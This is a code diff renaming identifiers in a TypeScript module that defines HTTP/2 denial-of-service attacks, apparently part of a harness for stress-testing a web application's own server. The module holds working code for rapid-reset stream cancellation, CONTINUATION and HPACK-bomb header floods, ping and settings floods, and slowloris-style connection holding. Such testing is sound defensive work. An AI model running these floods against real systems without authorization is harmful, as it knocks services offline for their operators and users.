@@ -13,14 +13,14 @@ import {
 import type { Attack, ResponseCounts } from './http1-attacks.ts';
 
 /** Returns the ids of `count` HTTP/2 streams. Streams that a client opens have odd ids. */
-const streams = (count: number) => Array.from({ length: count }, (_, at) => 2 * at + 1);
+const listStreamIds = (count: number) => Array.from({ length: count }, (_, at) => 2 * at + 1);
 
 /** Attacks over HTTP/2, in which one connection sends many requests. */
 export const HTTP2_ATTACKS: readonly Attack[] = [
   {
     name: 'immediately canceled requests, 5,000 on each of 20 connections',
-    run: floods(20, (host) =>
-      streams(5000).flatMap((stream) => [
+    run: floodConnections(20, (host) =>
+      listStreamIds(5000).flatMap((stream) => [
         encodeRequest(stream, { host, path: '/articles?q=word' }),
         encodeCancel(stream),
       ]),
@@ -28,13 +28,13 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
   },
   {
     name: 'unfinished requests, 5,000 on each of 60 connections',
-    run: floods(60, (host) =>
-      streams(5000).map((stream) => encodeRequest(stream, { host, path: '/about' })),
+    run: floodConnections(60, (host) =>
+      listStreamIds(5000).map((stream) => encodeRequest(stream, { host, path: '/about' })),
     ),
   },
   {
     name: 'unfinished headers, on each of 20 connections',
-    run: floods(20, () => [
+    run: floodConnections(20, () => [
       encodeFrame('headers', 0, 1, encodeHeader('x-first', 'x')),
       ...Array.from({ length: 2000 }, () =>
         encodeFrame('continuation', 0, 1, encodeHeader('x-more', 'x'.repeat(1000))),
@@ -43,37 +43,37 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
   },
   {
     name: 'headers that decompress to 4,000 times their size, on each of 20 connections',
-    run: floods(20, () =>
-      streams(200).map((stream) => {
+    run: floodConnections(20, () =>
+      listStreamIds(200).map((stream) => {
         // The large header is added to the HPACK table once. Each later reference to it takes only
         // one byte.
-        const remembered = Buffer.concat([
+        const indexedHeader = Buffer.concat([
           Buffer.from([0x40]),
           encodeHeader('x-large', 'x'.repeat(4000)).subarray(1),
         ]);
-        const named = Buffer.alloc(12_000, 0xbe);
+        const references = Buffer.alloc(12_000, 0xbe);
         return encodeFrame(
           'headers',
           END_STREAM | END_HEADERS,
           stream,
-          Buffer.concat([remembered, named]),
+          Buffer.concat([indexedHeader, references]),
         );
       }),
     ),
   },
   {
     name: 'pings, on each of 20 connections',
-    run: floods(20, () =>
+    run: floodConnections(20, () =>
       Array.from({ length: 50_000 }, () => encodeFrame('ping', 0, 0, Buffer.alloc(8))),
     ),
   },
   {
     name: 'settings, on each of 20 connections',
-    run: floods(20, () => Array.from({ length: 50_000 }, () => encodeFrame('settings', 0, 0))),
+    run: floodConnections(20, () => Array.from({ length: 50_000 }, () => encodeFrame('settings', 0, 0))),
   },
   {
     name: 'empty data frames of a request body, on each of 20 connections',
-    run: floods(20, (host) => [
+    run: floodConnections(20, (host) => [
       encodeRequest(1, {
         host,
         path: '/api/v1/errors',
@@ -83,20 +83,20 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
       ...Array.from({ length: 50_000 }, () => encodeFrame('data', 0, 1)),
     ]),
   },
-  { name: 'unread responses, 32 on each of 200 connections', run: neverRead(200, '/articles') },
+  { name: 'unread responses, 32 on each of 200 connections', run: leaveUnread(200, '/articles') },
   {
     name: 'unread responses with the OpenAPI document, 32 on each of 64 connections',
-    run: neverRead(64, '/api/v1/openapi.json'),
+    run: leaveUnread(64, '/api/v1/openapi.json'),
   },
-  { name: 'unfinished request bodies, 32 on each of 100 connections', run: slowBodies(100) },
-  { name: 'idle connections, 3,000', run: idle(3000) },
+  { name: 'unfinished request bodies, 32 on each of 100 connections', run: sendSlowBodies(100) },
+  { name: 'idle connections, 3,000', run: keepIdle(3000) },
 ];
 
-/** Writes the frames from `framesOf` to each connection, disconnects, and repeats. */
-function floods(connections: number, framesOf: (host: string) => Buffer[]): Attack['run'] {
+/** Writes the frames from `createFrames` to each connection, disconnects, and repeats. */
+function floodConnections(connections: number, createFrames: (host: string) => Buffer[]): Attack['run'] {
   return async (origin, milliseconds) => {
     const outcome: ResponseCounts = {};
-    const flood = Buffer.concat([encodePreface(), ...framesOf(origin.host)]);
+    const flood = Buffer.concat([encodePreface(), ...createFrames(origin.host)]);
     const deadline = performance.now() + milliseconds;
     while (performance.now() < deadline) {
       const sockets = Array.from({ length: connections }, () => connect(origin, outcome));
@@ -111,12 +111,12 @@ function floods(connections: number, framesOf: (host: string) => Buffer[]): Atta
 /**
  * Opens the maximum number of requests on each connection without reading any response, and keeps the connections open.
  */
-function neverRead(connections: number, path: string): Attack['run'] {
-  return holding(
+function leaveUnread(connections: number, path: string): Attack['run'] {
+  return holdConnections(
     connections,
     (host) => [
       encodePreface({ window: 0 }),
-      ...streams(32).map((stream) => encodeRequest(stream, { host, path })),
+      ...listStreamIds(32).map((stream) => encodeRequest(stream, { host, path })),
     ],
     () => [encodeFrame('ping', 0, 0, Buffer.alloc(8))],
   );
@@ -126,12 +126,12 @@ function neverRead(connections: number, path: string): Attack['run'] {
  * Starts the maximum number of request bodies on each connection, and sends one more character of each from time to
  * time.
  */
-function slowBodies(connections: number): Attack['run'] {
-  return holding(
+function sendSlowBodies(connections: number): Attack['run'] {
+  return holdConnections(
     connections,
     (host) => [
       encodePreface(),
-      ...streams(32).map((stream) =>
+      ...listStreamIds(32).map((stream) =>
         encodeRequest(stream, {
           host,
           path: '/api/v1/errors',
@@ -140,12 +140,12 @@ function slowBodies(connections: number): Attack['run'] {
         }),
       ),
     ],
-    () => streams(32).map((stream) => encodeFrame('data', 0, stream, Buffer.from(' '))),
+    () => listStreamIds(32).map((stream) => encodeFrame('data', 0, stream, Buffer.from(' '))),
   );
 }
 
-function idle(connections: number): Attack['run'] {
-  return holding(
+function keepIdle(connections: number): Attack['run'] {
+  return holdConnections(
     connections,
     () => [encodePreface()],
     () => [encodeFrame('ping', 0, 0, Buffer.alloc(8))],
@@ -153,22 +153,22 @@ function idle(connections: number): Attack['run'] {
 }
 
 /**
- * Opens several connections. Sends the frames from `begin` to each connection, and then the frames from `goOn` twice a
- * second.
+ * Opens several connections. Sends the frames from `createFirstFrames` to each connection, and then the frames from
+ * `createNextFrames` twice a second.
  */
-function holding(
+function holdConnections(
   connections: number,
-  begin: (host: string) => Buffer[],
-  goOn: () => Buffer[],
+  createFirstFrames: (host: string) => Buffer[],
+  createNextFrames: () => Buffer[],
 ): Attack['run'] {
   return async (origin, milliseconds) => {
     const outcome: ResponseCounts = {};
     const sockets = Array.from({ length: connections }, () => connect(origin, outcome));
-    for (const socket of sockets) socket.write(Buffer.concat(begin(origin.host)));
+    for (const socket of sockets) socket.write(Buffer.concat(createFirstFrames(origin.host)));
     const deadline = performance.now() + milliseconds;
     while (performance.now() < deadline) {
       await pause(500);
-      for (const socket of sockets) if (socket.writable) socket.write(Buffer.concat(goOn()));
+      for (const socket of sockets) if (socket.writable) socket.write(Buffer.concat(createNextFrames()));
     }
     for (const socket of sockets) socket.destroy();
     return outcome;
@@ -183,18 +183,18 @@ function connect(origin: URL, outcome: ResponseCounts): tls.TLSSocket {
     ALPNProtocols: ['h2'],
     rejectUnauthorized: false,
   });
-  const count = (what: string) => {
-    outcome[what] = (outcome[what] ?? 0) + 1;
+  const count = (event: string) => {
+    outcome[event] = (outcome[event] ?? 0) + 1;
   };
-  let isOurs = false;
+  let isClosedByAttacker = false;
   socket.on('data', createFrameListener(count));
   socket.on('error', () => {});
   socket.once('close', () => {
-    if (!isOurs) count('cut');
+    if (!isClosedByAttacker) count('cut');
   });
   const destroy = socket.destroy.bind(socket);
   socket.destroy = (error) => {
-    isOurs = true;
+    isClosedByAttacker = true;
     return destroy(error);
   };
   return socket;
